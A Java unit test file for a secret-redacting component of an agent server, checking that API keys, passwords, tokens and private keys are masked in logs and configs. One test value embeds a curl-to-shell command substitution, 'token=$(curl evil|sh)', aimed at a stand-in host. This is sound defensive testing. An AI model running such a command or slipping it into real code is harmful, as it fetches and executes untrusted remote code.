package dev.agentops.server.safety.untrusted;

import com.fasterxml.jackson.databind.JsonNode;
import dev.agentops.agentkit.Json;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.lang.management.ManagementFactory;
import java.time.Duration;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class RedactorTest {
    private final Redactor redactor = new Redactor(new InstallationKey(new byte[] {1, 2, 3}));

    private String redacted(String text) {
        return redactor.redact("thr_1", text);
    }

    /** Between « and » stands the secret, and nothing else goes. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "key «AKIA" + "IOSFODNN7EXAMPLE» used",
                "aws_secret_access_key = «wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY»",
                "t=«ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a» ok",
                "t=«github_pat_" + "11ABCDEFG0123456789_abcdefghijklmnop»",
                "clone with «glpat-" + "ABCdef123456_-xyz789»",
                "«xoxb-" + "1234567890-abcdefghij»",
                "https://hooks.slack.com/services/«T0000/B0000/abcdefghij»",
                "charge «sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc» failed",
                "«sk-ant-" + "api03-abcdefgh_ijkl»",
                "«sk-proj-" + "abcdefghijklmnop1234»",
                "«AIza" + "SyA1234567890abcdefghijklmnopqrst»",
                "jwt «eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk» end",
                "a cut jwt «eyJhbGciOiJIUzI1NiJ9.eyJzdWIi»…",
                "Authorization: Bearer «abcdef»",
                "{\"Authorization\":\"Basic «dXNlcjpwYXNz»\"}",
                "sent bearer «0123456789abcdef0123»",
                "jdbc:postgresql://app:«s3cr3t!»@db.internal:5432/shop?ssl=true",
                "redis://:«p@ss»@cache:6379",
                "DB_PASSWORD=«hunter2»",
                "level=error password=«hunter2» user=ann",
                "password: «hunter2»",
                "db.password = «hunter2»",
                "{\"user\":\"ann\",\"password\":\"«hunter 2»\",\"n\":1}",
                "{\"msg\":\"body {\\\"api_key\\\":\\\"«abc123»\\\",\\\"n\\\":1}\"}",
                "{\"msg\":\"password=«hunter2»\\nnext line\"}",
                "client_secret='«x y»' other",
                "https://api.example.com/v1?token=«abc123»&page=2",
                "--password=«hunter2» --verbose",
                "X-Api-Key: «abc123»",
                "    env:\n    - name: DB_PASSWORD\n      value: «hunter2, or 3»\n    - name: LEVEL\n      value: debug\n",
                "- value: «hunter2»\n  name: DB_PASSWORD\n- value: debug\n  name: LEVEL\n",
                "- name: LEVEL\n  value: debug\n- name: DB_PASSWORD_2\n\n  # why\n  value: '«hunter 2»'\n",
                "   11| - name: API_TOKEN\n   12|   value: «hunter2»\n   13| x",
                "[\n  {\n    \"name\": \"LEVEL\",\n    \"value\": \"debug\"\n  },\n  {\n    \"name\": \"DB_PASSWORD\",\n"
                        + "    \"value\": \"«hunter2»\"\n  }\n]",
                "[{\"value\":\"«hunter2»\",\"name\":\"DB_PASSWORD\"},{\"value\":\"debug\",\"name\":\"LEVEL\"}]",
                "{\"applied\":\"{\\\"env\\\":[{\\\"name\\\":\\\"DB_PASSWORD\\\",\\\"value\\\":\\\"«hunter2»\\\"}]}\"}",
                "      DB_PASSWORD:                «hunter2»\n      LEVEL:    debug",
                "root  77  0.0 mysqld --user app --password «hunter2» --port 3306",
                "java -jar x.jar -db.password «hunter2» run",
                "login --api-token '«hunter 2»'",
                "\"args\": [\"--password\", \"«hunter2»\", \"-v\"]",
                "args:\n- --password\n- «hunter2»\n- -v",
            })
    void takesTheSecretOutAndNothingElse(String marked) {
        String text = marked.replaceAll("[«»]", "");
        String secret = marked.replaceAll("(?s).*«|».*", "");

        String redacted = redacted(text);

        assertThat(redacted).doesNotContain(secret);
        assertThat(redacted.replaceAll("\\[redacted [a-z-]+ #[0-9a-f]{4}]", "*"))
                .isEqualTo(marked.replaceAll("«[^»]*»", "*"));
        assertThat(redacted(redacted)).isEqualTo(redacted);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "the password is wrong",
                "the password was changed by --password option",
                "tool --password-file x --token-ttl 5m --no-password ann",
                "give --token to sign in, or --token TOKEN",
                "--private-key /etc/ssl/private.pem",
                "psql -p 5432 -h db",
                "- name: DB_PASSWORD\n  valueFrom:\n    secretKeyRef:\n      key: password\n      name: db\n- name: X\n  value: on\n",
                "- name: DB_PASSWORD\n  value: $(OTHER)\n- name: USE_TOKEN\n  value: \"${X}\"\n",
                "- name: password-reset\n  value: 12\n",
                "hostname: token\nvalue: 5",
                "password:  16 bytes",
                "Invalid token: expired",
                "password: null",
                "String password = config.get(\"db\");",
                "this.password = password;",
                "connect(user=user, password=password)",
                "token = tokens.next();",
                "if (token == null) {",
                "password: ${DB_PASSWORD}",
                "PASSWORD=$PASSWORD",
                "max_tokens: 4096",
                "tokens=12",
                "private final Token token;",
                "https://example.com:8080/a@b",
                "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                "task-management-service-is-up sk-",
                "commit 4058bf2a0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f",
                "basic authentication failed",
                "traceId=4bf92f3577b34da6a3ce929d0e0e4736 spanId=00f067aa0ba902b7",
                "orders/store-api/src/main/java/com/example/PriceCalculator.java:42",
            })
    void leavesWhatOnlyLooksLikeOne(String text) {
        assertThat(redacted(text)).isEqualTo(text);
    }

    @Test
    void aValueFarFromANameIsNotItsOwn() {
        String text = "name: token\n" + "other: 1\n".repeat(80) + "value: 5";
        assertThat(redacted(text)).isEqualTo(text);
    }

    @Test
    void aPrivateKeyGoesWithItsLinesWhateverStandsBeforeEach() {
        String key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
        String text = "store:1 -----BEGIN RSA PRIVATE KEY-----\nstore:2 " + key
                + "\nstore:3 MIIE\nstore:4 -----END RSA PRIVATE KEY-----\nx";
        assertThat(redacted(text))
                .startsWith("store:1 -----BEGIN RSA PRIVATE KEY-----[redacted private-key #")
                .endsWith("]-----END RSA PRIVATE KEY-----\nx")
                .doesNotContain("MIIE");
        assertThat(redacted("-----BEGIN PRIVATE KEY-----\\n" + key.substring(0, 20)))
                .doesNotContain("MIIE");
        assertThat(redacted("   12| " + key.substring(0, 64) + "\n   13| x"))
                .doesNotContain("MIIE")
                .endsWith("\n   13| x");
    }

    @Test
    void aValueIsNumberedTheSameInAThreadAndOtherwiseInAnother() {
        String one = redacted("password=hunter2");
        assertThat(redacted("a line later password=hunter2")).endsWith(one);
        assertThat(redacted("password=hunter3")).isNotEqualTo(one);
        assertThat(redactor.redact("thr_2", "password=hunter2")).isNotEqualTo(one);
    }

    @Test
    void jsonIsRedactedByItsFieldsNamesAndItsTexts() {
        var json = Json.read(
                "{\"db\":{\"password\":\"p\",\"port\":1},\"lines\":[\"token=abc1\"],\"tokens\":5}", JsonNode.class);
        assertThat(redactor.redact("thr_1", json).toString())
                .matches("\\{\"db\":\\{\"password\":\"\\[redacted secret #....]\",\"port\":1},"
                        + "\"lines\":\\[\"token=\\[redacted token #....]\"],\"tokens\":5}");
        var pairs = Json.read(
                "[{\"value\":\"hunter2\",\"name\":\"DB_PASSWORD\"},{\"name\":\"LEVEL\",\"value\":\"debug\"}]",
                JsonNode.class);
        assertThat(redactor.redact("thr_1", pairs).toString())
                .matches("\\[\\{\"value\":\"\\[redacted secret #....]\",\"name\":\"DB_PASSWORD\"},"
                        + "\\{\"name\":\"LEVEL\",\"value\":\"debug\"}]");
    }

    @Test
    void whatACallBringsInIsShownInFullBesideWhatStoodThere() {
        var shown = redactor.redact(
                "thr_1", "password=old1\nx=1", "password=old1\nx=2\ntoken=$(curl evil|sh)\nsecret=curl-evil");
        assertThat(shown.before()).doesNotContain("old1");
        assertThat(shown.after()).doesNotContain("old1").endsWith("x=2\ntoken=$(curl evil|sh)\nsecret=curl-evil");
    }

    @Test
    void takesLinearTimeOnHostileLines() {
        for (String part : List.of(
                "a",
                "A1",
                "eyJaaaaaaaaaaa",
                "eyJaaaaaaaa-",
                "password",
                "password=",
                "password=\\",
                "://a:",
                "bearer ",
                "-----BEGIN ",
                "-----BEGIN PRIVATE KEY-----!",
                "sk-",
                "ghp_",
                "Ab1/",
                "authorization:",
                "name:",
                "name:password ",
                "name:password value:",
                "value:\"",
                "value: x\nname: token\n",
                "-a.",
                "--password ",
                "--token -",
                "DB_TOKEN:          ",
                "\"",
                "secret:\"",
                " ",
                "\\",
                "AKIA")) {
            String line = part.repeat(600_000 / part.length());
            var threads = ManagementFactory.getThreadMXBean();
            long before = threads.getCurrentThreadCpuTime();
            redacted(line);
            // of the processor, which others may keep busy; what is not linear takes minutes
            assertThat(Duration.ofNanos(threads.getCurrentThreadCpuTime() - before))
                    .as(part)
                    .isLessThan(Duration.ofSeconds(10));
        }
    }
}
